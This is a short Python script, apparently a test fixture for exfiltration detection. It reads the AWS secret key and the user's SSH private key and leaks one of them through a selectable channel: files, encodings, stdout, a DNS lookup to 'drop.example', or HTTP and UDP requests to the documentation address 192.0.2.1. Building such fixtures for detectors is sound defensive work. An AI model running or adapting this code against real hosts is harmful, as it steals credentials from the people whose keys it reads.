"""Passes a secret on, in the way that its argument names."""

import base64
import os
import socket
import subprocess
import sys
import urllib.request
from pathlib import Path

secret = os.environ["AWS_SECRET_ACCESS_KEY"]
key = Path.home().joinpath(".ssh/id_ed25519").read_bytes()


def ask(name):
    try:
        socket.getaddrinfo(name, 80)
    except OSError:
        pass


def fetch(address):
    try:
        urllib.request.urlopen(address, timeout=1)
    except OSError:
        pass


def send(content):
    with socket.socket(type=socket.SOCK_DGRAM) as sender:
        try:
            sender.sendto(content, ("192.0.2.1", 9))
        except OSError:
            pass


WAYS = {
    "argument": lambda: subprocess.run(["true", secret]),
    "file": lambda: Path("out.txt").write_text(secret),
    "base64": lambda: Path("out.txt").write_bytes(base64.b64encode(key)),
    "hex": lambda: Path("out.txt").write_text(key.hex()),
    "reversed": lambda: Path("out.txt").write_text(secret[::-1]),
    "stdout": lambda: print(secret),
    "dns": lambda: ask(f"{secret.lower()}.drop.example"),
    "url": lambda: fetch(f"http://192.0.2.1/?q={secret}"),
    "udp": lambda: send(secret.encode()),
}
WAYS[sys.argv[1]]()
